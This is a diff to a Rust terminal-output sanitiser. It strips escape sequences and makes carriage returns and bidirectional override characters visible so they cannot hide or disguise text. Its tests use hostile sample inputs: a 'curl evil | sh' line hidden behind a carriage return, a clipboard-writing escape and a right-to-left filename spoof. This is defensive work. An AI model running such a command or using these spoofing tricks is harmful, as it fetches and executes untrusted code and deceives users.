@@ -5,9 +5,11 @@
 //! (hiding what ran), set the window title, or (on some terminals) write
 //! to the clipboard; in CI logs and `--json` they are noise (`[91m` from
 //! the image builder's colours). So every such line loses its escape
-//! sequences (CSI, OSC, DCS and the rest), a carriage return keeps only
-//! what a terminal would have left visible, and other control characters
-//! are shown as `^X` (C0) or U+FFFD (C1). Tabs stay.
+//! sequences (CSI, OSC, DCS, charset selections and the rest), and other
+//! control characters are shown, never obeyed: `^X` for C0 (a carriage
+//! return inside a line is `^M`: text it would hide stays visible; one at
+//! the end of a line, CRLF output, is dropped), U+FFFD for C1 and for the
+//! bidirectional overrides that reorder what is shown. Tabs stay.
 
 use std::borrow::Cow;
 
@@ -15,19 +17,22 @@ const ESC: char = '\u{1b}';
 
 /// `text` without escape sequences and with control characters visible.
 pub fn sanitize(text: &str) -> Cow<'_, str> {
-    if !text.chars().any(|c| c.is_control() && c != '\t' && c != '\n') {
+    let harmless = |c: char| {
+        !(c.is_control() && c != '\t' && c != '\n'
+            || ('\u{202a}'..='\u{202e}').contains(&c)
+            || ('\u{2066}'..='\u{2069}').contains(&c))
+    };
+    if text.chars().all(harmless) {
         return Cow::Borrowed(text);
     }
     Cow::Owned(text.split('\n').map(line).collect::<Vec<_>>().join("\n"))
 }
 
-/// One line: what a terminal would have left visible after its carriage
-/// returns (a trailing one, from CRLF output, changes nothing), without
-/// escape sequences, control characters made visible.
+/// One line without escape sequences, its control characters made visible.
 fn line(text: &str) -> String {
-    let visible = text.trim_end_matches('\r').rsplit('\r').next().unwrap_or_default();
-    let mut out = String::with_capacity(visible.len());
-    let mut chars = visible.chars().peekable();
+    let text = text.trim_end_matches('\r');
+    let mut out = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
     while let Some(c) = chars.next() {
         match c {
             ESC => match chars.next() {
@@ -35,6 +40,11 @@ fn line(text: &str) -> String {
                 Some('[') => skip_while_then_one(&mut chars, |c| ('\u{20}'..='\u{3f}').contains(&c)),
                 // OSC, DCS, SOS, PM, APC: a string up to ST (ESC \) or BEL.
                 Some(']' | 'P' | 'X' | '^' | '_') => skip_string(&mut chars),
+                // nF sequences (ESC ( B selects a charset): intermediates,
+                // then a final byte.
+                Some(c) if ('\u{20}'..='\u{2f}').contains(&c) => {
+                    skip_while_then_one(&mut chars, |c| ('\u{20}'..='\u{2f}').contains(&c))
+                }
                 // Two-character sequences (ESC c, ESC 7, ESC =, ...).
                 Some(_) | None => {}
             },
@@ -47,6 +57,8 @@ fn line(text: &str) -> String {
             }
             '\u{7f}' => out.push_str("^?"),
             c if ('\u{80}'..='\u{9f}').contains(&c) => out.push('\u{fffd}'),
+            // Bidirectional embeddings, overrides and isolates.
+            '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => out.push('\u{fffd}'),
             c => out.push(c),
         }
     }
@@ -85,7 +97,9 @@ mod tests {
         assert_eq!(sanitize("\u{1b}]52;c;ZXZpbA==\u{1b}\\x"), "x", "OSC 52 (clipboard) with ST");
         assert_eq!(sanitize("a\u{1b}[2J\u{1b}[Hb"), "ab", "clear screen, cursor home");
         assert_eq!(sanitize("bell\u{7} back\u{8}space nul\u{0}"), "bell^G back^Hspace nul^@");
-        assert_eq!(sanitize("progress 10%\rprogress 100%"), "progress 100%");
+        assert_eq!(sanitize("curl evil | sh\rbuilding..."), "curl evil | sh^Mbuilding...", "nothing hidden");
+        assert_eq!(sanitize("\u{1b}(Bcharset"), "charset");
+        assert_eq!(sanitize("file\u{202e}gpj.exe"), "file\u{fffd}gpj.exe");
         assert_eq!(sanitize("crlf line\r"), "crlf line");
         assert_eq!(sanitize("c1 \u{9b}31mred \u{85}next"), "c1 red \u{fffd}next");
         assert_eq!(sanitize("two\nlines\u{1b}[K"), "two\nlines");
